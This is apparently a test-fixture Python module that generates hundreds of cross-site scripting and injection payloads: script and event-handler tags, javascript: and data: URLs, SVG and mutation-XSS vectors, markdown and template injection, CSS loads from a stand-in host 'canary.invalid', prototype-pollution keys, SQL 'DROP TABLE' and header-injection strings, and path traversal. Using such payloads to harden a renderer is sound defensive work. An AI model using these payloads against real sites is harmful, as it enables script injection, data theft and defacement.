"""Hostile texts: what a model, a tool, a document or a user may say so that a page runs it, loads it or breaks.

Each is made from a form and a number. What would run calls `__own(number)`, which the tests define in the page before
anything else; what would load names a host that there is not. The forms are ours, one for each way into a page that we
know of; none is meant to be shown as anything but text.
"""
# ruff: noqa: E501, RUF001  each text stands as it is, and looking like another letter is the point of some

import itertools
from dataclasses import dataclass

CANARY = "canary.invalid"


@dataclass(frozen=True)
class Payload:
    number: int
    sort: str
    text: str


def payloads():
    """All of them, each text once, in a fixed order."""
    found, seen = [], set()
    for sort, form in forms():
        number = len(found)
        text = form.replace("JS", f"__own({number})").replace("URL", f"http://{CANARY}/{number}")
        if text not in seen:
            seen.add(text)
            found.append(Payload(number, sort, text))
    return found


def forms():
    """(sort, form); in a form JS is what would run and URL what would be loaded."""
    for sort, made in SORTS.items():
        yield from ((sort, form) for form in made())


def scripts():
    yield from (
        "<script>JS</script>", "<SCRIPT>JS</SCRIPT>", "<script src=URL></script>", "<script type=module>JS</script>",
        "<script async defer src='//canary.invalid/x.js'></script>", "<script/x>JS</script>", "<script\n>JS</script\n>",
        "<scr<script>ipt>JS</scr</script>ipt>", "<script>JS//", "<script>/*</script><script>*/JS</script>",
        "<script xlink:href=URL />", "<script type='text/javascript' charset=utf-7>+ADw-JS</script>",
        "</script><script>JS</script>", "</title><script>JS</script>", "</textarea><script>JS</script>",
        "</style><script>JS</script>", "</noscript><script>JS</script>", "--><script>JS</script>",
        "<!--><script>JS</script>-->", "]]><script>JS</script>", "<![CDATA[<script>JS</script>]]>",
        "<?xml version='1.0'?><script>JS</script>", "&lt;script&gt;JS&lt;/script&gt;",
        "&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;", "%3Cscript%3EJS%3C/script%3E",
        "\\u003cscript\\u003eJS\\u003c/script\\u003e", "\\x3cscript\\x3eJS\\x3c/script\\x3e",
        "＜script＞JS＜/script＞", "<ſcript>JS</ſcript>", "<script>import('URL')</script>",
        "<script>new Function('JS')()</script>", "<noembed><script>JS</script></noembed>",
    )  # fmt: skip


_EVENTS = (
    ("img src=x", "onerror"), ("img src=data:, loading=lazy", "onload"), ("svg", "onload"), ("body", "onload"),
    ("body", "onpageshow"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("details open", "ontoggle"),
    ("video src=x", "onerror"), ("video><source src=x", "onerror"), ("audio src=x", "onerror"),
    ("object data=x", "onerror"), ("embed src=x", "onload"), ("iframe src=about:blank", "onload"),
    ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("marquee", "onstart"),
    ("div tabindex=0 autofocus", "onfocus"), ("div popover", "onbeforetoggle"), ("p", "onpointerover"),
    ("p", "onanimationstart"), ("dialog open", "oncancel"), ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x to=1", "onbegin"), ("math href=x", "onclick"), ("form", "onsubmit"),
    ("custom-element contenteditable", "onfocusin"), ("track default src=x", "onerror"),
)  # fmt: skip


def handlers():
    for number, (tag, event) in enumerate(_EVENTS):
        yield (
            f"<{tag} {event}=JS>", f'<{tag} {event}="JS">', f"<{tag}/{event}='JS'//>",
            f"<{tag.upper()} {event.upper()}=JS>",
        )[number % 4]  # fmt: skip
        yield (f'x" {event}="JS" y="', f"x' {event}='JS' y='", f"x {event}=JS ", f"`{event}=JS`")[number % 4]
    yield from (
        '"><img src=x onerror=JS>', "'><img src=x onerror=JS>", "<img src=x onerror=&#95;_own&#40;1&#41;>",
        "<img src=`x`onerror=JS>", "<img\tsrc=x\nonerror\r=JS>", "<img src=x:alert(alt) onerror=eval(alt) alt=JS>",
        "<img src='x' onerror='setTimeout(\"JS\")'>", "<<img src=x onerror=JS>", "<img/src/onerror=JS>",
        "<image src=x onerror=JS>",
    )  # fmt: skip


def frames():
    yield from (
        "<iframe src=javascript:JS></iframe>", "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=parent.JS&gt;'></iframe>", "<iframe src=URL></iframe>",
        "<iframe src='data:text/html,<script>JS</script>'></iframe>", "<frameset><frame src=javascript:JS></frameset>",
        "<object data='data:text/html,<script>JS</script>'></object>", "<object data=javascript:JS></object>",
        "<embed src=javascript:JS>", "<embed src=URL type=text/html>", "<portal src=URL></portal>",
        "<base href=URL/>", "<base target=_top href=javascript:JS//>", "<meta http-equiv=refresh content='0;url=URL'>",
        "<meta http-equiv=refresh content='0;url=javascript:JS'>", "<meta http-equiv=set-cookie content='a=b'>",
        "<link rel=stylesheet href=URL>", "<link rel=preload as=script href=URL>", "<link rel=prefetch href=URL>",
        "<link rel=dns-prefetch href=//canary.invalid>", "<link rel=manifest href=URL>", "<link rel=icon href=URL>",
        "<form action=javascript:JS><button>go</button></form>", "<form action=URL><input name=a value=b></form>",
        "<button formaction=javascript:JS>go</button>", "<input type=image src=URL formaction=javascript:JS>",
        "<isindex action=javascript:JS type=image>",
    )  # fmt: skip


def links():
    yield from (
        "<a href=javascript:JS>x</a>", "<a href=' javascript:JS'>x</a>", "<a href='java\tscript:JS'>x</a>",
        "<a href='java\nscript:JS'>x</a>", "<a href='&#106;avascript:JS'>x</a>", "<a href=\x01javascript:JS>x</a>",
        "<a href='javascript&colon;JS'>x</a>", "<a href=JaVaScRiPt:JS>x</a>", "<a href='data:text/html,JS'>x</a>",
        "<a href=vbscript:JS>x</a>", "<a href=URL ping=URL>x</a>", "<a href=URL target=_top download>x</a>",
        "<area href=javascript:JS shape=default>", "<map name=m><area href=javascript:JS></map>",
        "javascript:JS", "JAVASCRIPT:JS", " javascript:JS", "java\tscript:JS", "javascript:/*--></title>*/JS",
        "javascript://canary.invalid/%0aJS", "data:text/html,<script>JS</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>", "vbscript:JS", "livescript:JS",
        "view-source:javascript:JS", "blob:http://canary.invalid/x", "file:///etc/passwd", "filesystem:http://x/y",
        "//canary.invalid/a", "\\\\canary.invalid\\a", "http:canary.invalid", "http://good.example@canary.invalid/",
    )  # fmt: skip


def vectors():
    yield from (
        "<svg><script>JS</script></svg>", "<svg><script href=URL /></svg>", "<svg><a xlink:href=javascript:JS><text>x",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=JS/>#x'/></svg>", "<svg><use href=URL#x /></svg>",
        "<svg><foreignObject><iframe src=javascript:JS></foreignObject></svg>", "<svg><image href=URL /></svg>",
        "<svg><animate xlink:href=#a attributeName=href values=javascript:JS /><a id=a><text>x</text></a></svg>",
        "<svg><style>*{background:url(URL)}</style></svg>", "<svg><feImage href=URL /></svg>",
        "<svg><title><script>JS</script></title></svg>", "<svg><handler type=text/javascript ev:event=load>JS</handler>",
        "<?xml-stylesheet href='javascript:JS'?>", "<math><maction actiontype=statusline xlink:href=javascript:JS>x",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'URL'>]><x>&y;</x>",
    )  # fmt: skip


def mutations():
    """Forms that a parser builds into something else when they are written out and read again."""
    image = "<img src=x onerror=JS>"
    yield from (
        f"<noscript><p title='</noscript>{image}'>", f"<svg></p><style><a id='</style>{image}'>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{image}'>",
        f"<form><math><mtext></form><form><mglyph><style></math>{image}", f"<template>{image}</template>",
        f"<select><template><style><!--</style><a rel='--></style></template></select>{image}'>",
        f"<table><tbody><tr><td>{image}</table>{image}", f"<plaintext>{image}", f"<xmp><p title='</xmp>{image}'>",
        f"<textarea><p title='</textarea>{image}'>", f"<title><p title='</title>{image}'>",
        f"<svg><desc><p><style><!--</style><a href='--><!--{image}'>", f"<a{image}>", f"<p id='{image}'",
        f"<template><s><template><s>{image}</s></template>", f"<svg><![CDATA[><image xlink:href=]]>{image}",
        f"<math><annotation-xml encoding=text/html><style>{image}</style></annotation-xml></math>",
        f"<div><template shadowrootmode=open>{image}</template></div>", "<p is=x-y onclick=JS><slot onslotchange=JS>",
    )  # fmt: skip


def markdown():
    schemes = (
        "javascript:JS", "JaVaScRiPt:JS", "java\tscript:JS", "&#106;avascript:JS", "javascript&colon;JS", " javascript:JS",
        "\u0000javascript:JS", "%6aavascript:JS", "data:text/html,<script>JS</script>", "vbscript:JS", "file:///x",
        "//canary.invalid/a", "blob:URL",
    )  # fmt: skip
    yield from (f"[x]({scheme})" for scheme in schemes)
    yield from (f"![x]({scheme})" for scheme in schemes[:4])
    yield from (f"<{scheme}>" for scheme in (schemes[0], schemes[8], schemes[9]))
    yield from (
        "![x](URL)", "![x](URL 'a\" onerror=\"JS')", "[![x](URL)](javascript:JS)", "[x]: javascript:JS\n\n[x]",
        "![x][1]\n\n[1]: URL", "[x][1]\n\n[1]: javascript:JS 'title'", "[x](<javascript:JS>)",
        "[x](URL '\" onmouseover=\"JS')", '[" onfocus=JS autofocus](URL)', "# <img src=x onerror=JS>",
        "> <script>JS</script>", "- <svg onload=JS>", "| a | b |\n|---|---|\n| <img src=x onerror=JS> | [x](javascript:JS) |",
        '```" onmouseover="JS\ncode\n```', "```html\n<script>JS</script>\n```", "`<img src=x onerror=JS>`",
        "**<script>JS</script>**", "*[x](javascript:JS)*", "~~<img src=x onerror=JS>~~", "- [x] <script>JS</script>",
        "<details open ontoggle=JS>\n\n**x**\n\n</details>", "<div>\n\n[x](javascript:JS)\n\n</div>", "<img src=URL>",
        "<URL>", "URL/auto)link", "www.canary.invalid/JS", "<mailto:a@canary.invalid?subject=<script>JS</script>>",
        "[x](mailto:a@canary.invalid?body=JS)", "$$\\href{javascript:JS}{x}$$", "$\\unicode{<img src=x onerror=JS>}$",
        '```mermaid\ngraph TD; A[<img src=x onerror=JS>]; click A "javascript:JS"\n```',
        '[x](https://good.example\n"onmouseover=JS)', "[a](b)[c](javascript:JS)[d](e)", "&#x5b;x](javascript:JS)",
        "[x](javascript:JS\\)", "[^1]\n\n[^1]: <script>JS</script>", "<!-- -->\n<script>JS</script>", "\\<script>JS</script>",
    )  # fmt: skip


def templates():
    yield from (
        "{{constructor.constructor('JS')()}}", "{{$on.constructor('JS')()}}", "${JS}", "`${JS}`", "#{JS}", "<%= JS %>",
        "{% JS %}", "[[${JS}]]", "{{{JS}}}", "@(JS)", "<div v-html=\"'<img src=x onerror=JS>'\"></div>",
        '<div ng-app ng-init="JS"></div>', "<div x-data x-init=JS></div>", "<div hx-on:load=JS hx-get=URL></div>",
        "'-JS-'", '"-JS-"', "';JS//", '";JS//', "\\';JS//", "*/JS/*", "\nJS\n", "${{<%[%'\"}}%\\.",
        "%s%n%x", "'; DROP TABLE spans; --", "$(JS)", "`JS`", "|| JS", "\r\nX-Own: JS\r\n\r\n<script>JS</script>",
    )  # fmt: skip


def styles():
    yield from (
        "<style>*{background:url(URL)}</style>", "<style>@import 'URL';</style>", "<div style='background:url(URL)'>x</div>",
        "<div style='width:expression(JS)'>x</div>", "</style><style>*{display:none}</style>", "red;background:url(URL)",
        "red}*{background:url(URL)}", "url(javascript:JS)", "<p style='position:fixed;inset:0;z-index:9999'>cover</p>",
        "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>", "var(--x,url(URL))", "100px;--x:url(URL)",
    )  # fmt: skip


def names():
    """Names that mean something to JavaScript or to a view library."""
    yield from (
        "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__",
        "then", "length", "children", "ref", "key", "props", "dangerouslySetInnerHTML", "innerHTML", "$$typeof", "NaN",
        "undefined", "null", "__proto__.owned", "constructor.prototype.owned", "isPrototypeOf", "Symbol.iterator",
        '{"__proto__":{"owned":1}}', '{"constructor":{"prototype":{"owned":1}}}', '{"__html":"<img src=x onerror=JS>"}',
        '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=JS>"}}', '{"toJSON":null,"then":"JS"}',
        '{"type":"script","props":{"children":"JS"},"key":null,"ref":null,"__v":1}', '["__proto__",["owned"]]',
        '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"JS"}}',
    )  # fmt: skip


def ways():
    """Texts that break out of an address."""
    yield from (
        "?q=&project=other", "a/../../settings", "..%2f..%2fsettings", "%2e%2e/%2e%2e", "#/../<script>JS</script>",
        "a?b#c&d=e", "&q=<script>JS</script>", '" project:other "', "user:x OR kind:llm", "a\"b'c`d\\e", "%00", "%zz", "+",
        "-", ":*", "~", "(", "[", "]", '"',
    )  # fmt: skip


def letters():
    yield from (
        "\u202egnp.<script>JS</script>", "\u2066\u2067\u2068x\u2069", "\u200b\u200c\u200d\ufeff", "a\u0000<script>JS</script>",
        "\u0000", "\u001b[31mJS\u001b[0m", "\u0007\u0008\u007f", "line\u2028sep\u2029JS", "\u0085\u000b\u000c",
        "Z\u0351\u036b\u0343\u036a" * 40, "\ufdfd" * 20, "🏳️‍🌈👨‍👩‍👧‍👦" * 10, "\U000e0001\U000e0041tag", "ﷺ" * 30, "ａｌｅｒｔ（１）",
        "\u0130<\u017fcript>JS", "\ufff9<\ufffaJS\ufffb", "é" + "\u0301" * 200, "\ue000\uf8ff", "مرحبا <b>JS</b> שלום",
    )  # fmt: skip


def long():
    yield from (
        "W" * 5_000, "<b>" * 1_500, "[" * 1_500, "> " * 500 + "x", "*" * 2_000, "`" * 999, "a " * 4_000, "ab\n" * 1_500,
        "[x](" * 400, "!" * 50 + "[](" * 200, "- " * 300 + "x", "|" * 900 + "\n" + "|-" * 450, "<" * 3_000, "&" * 2_000,
        "漢字" * 2_000, "http://" + "a" * 3_000 + ".invalid/", "{" * 800 + "}" * 800, '{"a":' * 200 + "1" + "}" * 200,
    )  # fmt: skip


SORTS = {
    "script": scripts, "handler": handlers, "frame": frames, "link": links, "svg": vectors, "mutation": mutations,
    "markdown": markdown, "template": templates, "style": styles, "name": names, "address": ways, "letter": letters,
    "long": long,
}  # fmt: skip


def sample(every):
    """One of each so many, of all sorts."""
    return list(itertools.islice(payloads(), 0, None, every))
